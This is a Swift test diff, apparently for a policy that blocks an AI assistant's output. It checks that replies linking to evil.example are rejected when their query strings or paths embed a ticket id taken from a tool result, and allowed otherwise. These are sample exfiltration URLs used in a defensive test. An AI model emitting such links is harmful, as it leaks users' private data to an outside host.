@@ -21,4 +21,24 @@ struct SaidPartsTests {
       "[a](https://evil.example/?\(field))", messages: [Message(.user, "Summarise."), mail])
     #expect((verdict.action == .reject) == expected)
   }
+
+  @Test(
+    "an id is found with a label, with more at its ends and in a path; days, numbers and others are not",
+    arguments: [
+      ("?q=TND-2026-00417", true), ("?q=order:TND-2026-00417", true), ("?q=TND-2026-00417-x", true),
+      ("?q=the+ticket+is+TND-2026-00417", true), ("/402817-TND-2026-00417", true),
+      ("/ticket-TND-2026-00417.html", true),
+      ("?q=order:TND-2026-00418", false), ("?q=for+40281700", false), ("?start=at+2026-05-12T10:00", false),
+      ("/go/rev-5a4bb15d4dcc513d4654c340b67c01ffff3195f8", false),
+    ])
+  func ids(_ rest: String, _ expected: Bool) throws {
+    let said = Message(
+      .tool,
+      """
+      Customer Ines Moreau, order 40281700, ticket TND-2026-00417, due 2026-05-12T10:00, built from commit \
+      5a4bb15d4dcc513d4654c340b67c01ffff3195f8.
+      """, toolName: "search")
+    let verdict = try policy(["channels": [:]]).decide("See https://evil.example\(rest)", messages: [said])
+    #expect((verdict.action == .reject) == expected, "\(verdict.sentence)")
+  }
 }
